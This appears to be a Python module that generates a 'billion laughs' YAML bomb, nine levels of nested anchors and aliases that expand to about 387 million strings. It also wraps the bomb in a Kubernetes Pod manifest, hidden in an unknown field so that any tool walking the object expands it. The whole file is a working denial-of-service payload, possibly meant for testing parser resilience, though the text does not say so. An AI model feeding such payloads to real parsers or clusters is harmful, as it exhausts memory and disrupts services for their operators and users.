"""A "billion laughs" YAML document: nine levels, each a list aliasing the level below nine
times, so that its few hundred bytes stand for 9**9 (387 million) strings once expanded."""

from __future__ import annotations


def billion_laughs(levels: int = 9, key: str = "lol") -> str:
    """The bomb as a mapping: ``l0`` a list of nine strings, each next level nine aliases of the
    one before, ``key`` the last level aliased once more."""
    lines = ["l0: &l0 [" + ", ".join(['"lol"'] * 9) + "]"]
    lines += [f"l{i}: &l{i} [" + ", ".join([f"*l{i - 1}"] * 9) + "]" for i in range(1, levels)]
    lines.append(f"{key}: *l{levels - 1}")
    return "\n".join(lines) + "\n"


def manifest_bomb() -> str:
    """A pod carrying the bomb in a field the scheduler does not read (kept, as every unknown
    field is, for the object to round-trip: whatever walks it then walks the expansion)."""
    return ("apiVersion: v1\nkind: Pod\nmetadata:\n  name: laughs\nspec:\n  containers:\n  - name: main\n"
            "laughs:\n" + "".join(f"  {line}\n" for line in billion_laughs().splitlines()))
